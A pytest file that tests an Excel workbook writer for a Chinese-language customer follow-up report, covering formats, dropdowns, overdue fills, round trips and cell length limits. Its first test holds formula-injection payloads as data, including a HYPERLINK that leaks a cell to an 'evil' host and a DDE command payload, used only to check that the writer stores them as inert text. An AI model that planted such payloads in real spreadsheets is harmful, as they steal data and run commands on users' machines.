"""The workbook writer: same look, linear in rows, text never a formula."""

from __future__ import annotations

import datetime
import zipfile

import openpyxl
import pandas as pd

from reporting.export.workbook import write_workbook_file

STATUSES = ["待跟进", "跟进中", "已完成", "已升级"]


def written(tmp_path, sheets, overdue=None):
    return write_workbook_file(sheets, tmp_path / "w.xlsx", overdue, {"当前状态": STATUSES})


def test_text_from_data_is_never_a_formula(tmp_path):
    payloads = ['=HYPERLINK("http://evil/?d="&A2,"查看进度")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@A1", "-1+2"]
    table = pd.DataFrame({"跟进结果简述": payloads, "跟进事项": ["\x08退格", "a\x0bb", "\x1b[31m红", "\x00", "ok"]})
    path = written(tmp_path, {"客户跟进计划表": table})
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(path)["客户跟进计划表"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == payloads
    assert [r[1] for r in rows] == ["退格", "ab", "红", None, "ok"]  # a console colour sequence goes whole
    assert all(cell.data_type == "s" for cell in sheet["A"][1:])
    assert sheet["A2"].quotePrefix  # Excel keeps it text when staff edit the cell


def test_thousands_of_rows_keep_values_dates_dropdown_and_overdue_fills(tmp_path):
    rows = 3000
    due = pd.Timestamp("2026-11-20 09:00")
    table = pd.DataFrame(
        {
            "跟进编号": [f"FU{i:05d}" for i in range(rows)],
            "计划跟进时间": [due + pd.Timedelta(hours=i) for i in range(rows)],
            "当前状态": ["待跟进" if i % 3 else "已完成" for i in range(rows)],
            "得分": [float(i % 5 + 1) if i % 7 else None for i in range(rows)],
        }
    )
    overdue = [i % 3 == 1 for i in range(rows)]
    sheet = openpyxl.load_workbook(written(tmp_path, {"客户跟进计划表": table}, {"客户跟进计划表": overdue}))["客户跟进计划表"]
    assert sheet.max_row == rows + 1 and sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:D{rows + 1}"
    assert str(sheet.data_validations.dataValidation[0].sqref) == f"C2:C{rows + 1}"
    assert sheet["B2"].value == datetime.datetime(2026, 11, 20, 9, 0) and sheet["B2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet[f"B{rows + 1}"].value == datetime.datetime(2026, 11, 20, 9, 0) + datetime.timedelta(hours=rows - 1)
    assert [sheet.cell(row=i + 2, column=4).value for i in range(8)] == [None, 2, 3, 4, 5, 1, 2, None]
    filled = [sheet.cell(row=i + 2, column=1).fill.fgColor.rgb == "FFF8D7DA" for i in range(rows)]
    assert filled == overdue
    assert sheet.cell(row=3, column=4).fill.fgColor.rgb == "FFF8D7DA"  # the whole row
    assert sheet["A1"].font.bold and abs(sheet.column_dimensions["A"].width - 10) < 1


def test_fractions_show_as_percentages_where_asked(tmp_path):
    table = pd.DataFrame({"服务类型": ["售后维修"], "实际比例": [0.1935], "服务客户数": [31]})
    path = write_workbook_file({"分层抽样": table}, tmp_path / "p.xlsx", percent=frozenset({"实际比例"}))
    sheet = openpyxl.load_workbook(path)["分层抽样"]
    assert sheet["B2"].value == 0.1935 and sheet["B2"].number_format == "0.0%"  # the number kept, shown as 19.4%
    assert sheet["C2"].number_format == "General"


def test_every_kind_of_value_reads_back_as_the_value_written(tmp_path):
    """Body rows are written column by column as markup: each kind of value, blank and style survives the trip."""
    table = pd.DataFrame(
        {
            "文本": [" 前有空格", "后有空格 ", "_x0041_ 不是转义", "<b>&amp;</b>", "=1+1", None],
            "整数": pd.array([1, None, -3, 12345678901234567, 0, 7], dtype="Int64"),
            "小数": [0.1, float("nan"), 1e-7, float("inf"), 2.5, -0.0],
            "是否": [True, False, True, False, True, False],
            "混合": ["甲", 2, 2.5, True, datetime.datetime(2026, 11, 20, 8, 30), pd.NA],
            "回访时间": pd.to_datetime(
                ["2026-11-16 09:15", None, "1900-01-01 12:00", "2026-11-22 23:59", "1900-03-01 00:00", "2026-11-20 00:00"]
            ),
        }
    )
    path = write_workbook_file({"表": table}, tmp_path / "k.xlsx", {"表": [False, True, False, False, False, True]})
    sheet = openpyxl.load_workbook(path)["表"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    # openpyxl does not undo Excel's escape of a literal "_x0041_" (its underscore as _x005F_); Excel does
    assert [r[0] for r in rows] == [" 前有空格", "后有空格 ", "_x005F_x0041_ 不是转义", "<b>&amp;</b>", "=1+1", None]
    assert [r[1] for r in rows] == [1, None, -3, 1.234567890123457e16, 0, 7]  # 16 significant digits, as XlsxWriter writes
    assert [r[2] for r in rows] == [0.1, None, 1e-7, None, 2.5, 0]  # an infinity has no cell value in Excel: blank
    assert [r[3] for r in rows] == [True, False, True, False, True, False]
    assert [r[4] for r in rows] == ["甲", 2, 2.5, True, datetime.datetime(2026, 11, 20, 8, 30), None]
    assert [r[5] for r in rows] == [
        datetime.datetime(2026, 11, 16, 9, 15), None, datetime.datetime(1900, 1, 1, 12, 0),
        datetime.datetime(2026, 11, 22, 23, 59), datetime.datetime(1900, 3, 1), datetime.datetime(2026, 11, 20),
    ]  # fmt: skip
    assert sheet["F2"].number_format == "yyyy-mm-dd hh:mm" and sheet["E6"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["A6"].quotePrefix and not sheet["A2"].quotePrefix
    overdue = [[cell.fill.fgColor.rgb == "FFF8D7DA" for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert overdue[1] == [True] * 6 and overdue[5] == [True] * 6  # blanks of an overdue row filled too
    assert not any(overdue[0] + overdue[2] + overdue[3] + overdue[4])
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert '<dimension ref="A1:F7"/>' in xml and "_x005F_x0041_" in xml and 'xml:space="preserve"> 前有空格' in xml


def test_a_text_longer_than_a_cell_holds_is_cut_at_excels_limit_in_utf16_units(tmp_path):
    table = pd.DataFrame({"意见": ["好" * 40000, "😀" * 20000]})
    sheet = openpyxl.load_workbook(write_workbook_file({"表": table}, tmp_path / "l.xlsx"))["表"]
    assert sheet["A2"].value == "好" * 32767
    assert sheet["A3"].value == "😀" * 16383  # two UTF-16 units each: 32,766 of 32,767
